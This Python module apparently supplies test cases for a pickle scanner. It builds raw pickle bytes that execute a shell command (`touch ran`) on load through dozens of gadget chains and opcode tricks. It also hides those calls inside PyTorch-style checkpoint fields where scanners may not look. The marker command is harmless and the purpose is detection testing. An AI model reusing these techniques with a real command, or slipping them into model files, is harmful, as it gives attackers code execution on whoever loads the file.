"""Pickles that would run `touch ran`, were they loaded by Python.

To see them do it: python -m hostile.calls, which prints the names of those that did.
"""

import functools
import importlib
import operator
import os
import pickle
import runpy
import subprocess
import time
import timeit
from pathlib import Path
from typing import Any

from opcodes import storage, tensor, text

MARK = "ran"  # the file that they would make
_RUN = f"touch {MARK}"
_CODE = f"__import__('os').system('{_RUN}')"


class Call:
    """Pickled as a call with these arguments."""

    def __init__(self, function: Any, *arguments: Any):
        self.function, self.arguments = function, arguments

    def __reduce__(self) -> tuple:
        return self.function, self.arguments

    def __call__(self) -> None:
        """So that what it returns may be called, too."""


_MODULE = Call(importlib.import_module, "os")
_SYSTEM = Call(Call(operator.attrgetter, "system"), _MODULE)
_CHAINS = {
    "os.system": Call(os.system, _RUN),
    "subprocess": Call(subprocess.call, _RUN.split()),
    "eval": Call(eval, _CODE),
    "exec": Call(exec, _CODE),
    "compiled": Call(exec, Call(compile, _CODE, "x", "exec")),
    "open": Call(open, MARK, "w"),
    "getattr": Call(Call(getattr, _MODULE, "system"), _RUN),
    "attrgetter": Call(_SYSTEM, _RUN),
    "methodcaller": Call(Call(operator.methodcaller, "system", _RUN), _MODULE),
    "partial": Call(Call(functools.partial, os.system, _RUN)),
    "map": Call(list, Call(map, os.system, [_RUN])),
    "as a key": Call(dict, [(Call(os.system, _RUN), 1)]),
    "loads": Call(pickle.loads, pickle.dumps(Call(os.system, _RUN))),
    "timeit": Call(timeit.timeit, _CODE, "", timeit.default_timer, 1),
    "runpy": Call(runpy._run_code, _CODE, {}),
}
_NAMED = b"cos\nsystem\n"
_ARGUMENT = text(_RUN) + b"\x85"
_SPACE = b"cargparse\nNamespace\n)\x81"  # an object that takes any attributes


def _extension(module: str, name: str, number: bytes) -> bytes:
    named = text(module) + text(name) + number
    return b"ccopyreg\nadd_extension\n" + named + b"\x87R0"


# Opcodes of each, without PROTO and STOP.
CALLS: dict[str, bytes] = {
    **{name: pickle.dumps(call, 2)[2:-1] for name, call in _CHAINS.items()},
    "protocol 0": pickle.dumps(_CHAINS["attrgetter"], 0)[:-1],
    "name on the stack": text("os") + text("system") + b"\x93" + _ARGUMENT + b"R",
    "INST": b"(" + text(_RUN) + b"ios\nsystem\n",
    "OBJ": b"(" + b"csubprocess\nPopen\n](" + text("touch") + text(MARK) + b"eo",
    "NEWOBJ": b"cfunctools\npartial\n" + _NAMED + text(_RUN) + b"\x86\x81)R",
    "NEWOBJ_EX": b"cfunctools\npartial\n" + _NAMED + _ARGUMENT[:-1]
    + b"\x86}\x92)R",
    "__setstate__": _SPACE + b"}" + text("__setstate__") + _NAMED + b"sb"
    + text(_RUN) + b"b",
    "EXT1": _extension("os", "system", b"K\1") + b"\x82\1" + _ARGUMENT + b"R",
    "EXT2": _extension("posix", "system", b"M\0\2") + b"\x83\0\2" + _ARGUMENT + b"R",
    "EXT4": _extension("subprocess", "getoutput", b"J\0\0\3\0")
    + b"\x84\0\0\3\0" + _ARGUMENT + b"R",
    "dropped": _NAMED + _ARGUMENT + b"R0N",
    "dropped to a mark": b"(" + _NAMED + _ARGUMENT + b"R1N",
    "remembered": _NAMED + b"q\0" + _ARGUMENT + b"q\x0100" + b"h\0h\1R",
}  # fmt: skip


def hidden(call: bytes) -> dict[str, bytes]:
    """Checkpoints with a call, or what it returns, where one does not look."""
    good = tensor()
    after = good.removesuffix(b"\x89NtR")  # the arguments that say where values are
    key = text("a")
    return {
        "a key": b"}" + call + good + b"s",
        "beside a tensor": b"}" + key + good + b"s" + text("b") + call + b"s",
        "under a tensor": call + b"0}" + key + good + b"s",
        "a shape": b"}" + key + tensor(shape=call) + b"s",
        "an offset": b"}" + key + tensor(offset=call) + b"s",
        "whether it has a gradient": b"}" + key + after + call + b"NtRs",
        "hooks": b"}" + key + after + b"\x89" + call + b"tRs",
        "metadata": b"}" + key + after + b"\x89N" + call + b"tRs",
        "a storage": b"}" + key + tensor(of=call) + b"s",
        "a device": b"}" + key + tensor(storage().replace(text("cpu"), call)) + b"s",
        "a persistent id": b"}" + key + tensor(of=call + b"Q") + b"s",
        "a dict's items": b"ccollections\nOrderedDict\n" + call + b"\x85R",
        "a dict's attributes": b"}" + key + good + b"s" + call + b"b",
        "a dict's _metadata": b"}" + key + good + b"s}" + text("_metadata") + call
        + b"sb",
        "a trainer's number": b"}" + text("b") + b"cnumpy.core.multiarray\nscalar\n"
        + call + b"\x85Rs" + key + good + b"s",
        "a callback's state": b"cpytorch_lightning.callbacks.x\nY\n" + call + b"b",
        "a set": b"cbuiltins\nset\n](" + call + b"e\x85R",
    }  # fmt: skip


def main() -> None:
    mark = Path(MARK)
    for name, call in CALLS.items():
        pickle.loads(b"\x80\2" + call + b".")
        for _ in range(100):  # some run in a process of their own
            if mark.exists():
                print(name)
                mark.unlink()
                break
            time.sleep(0.01)


if __name__ == "__main__":
    main()
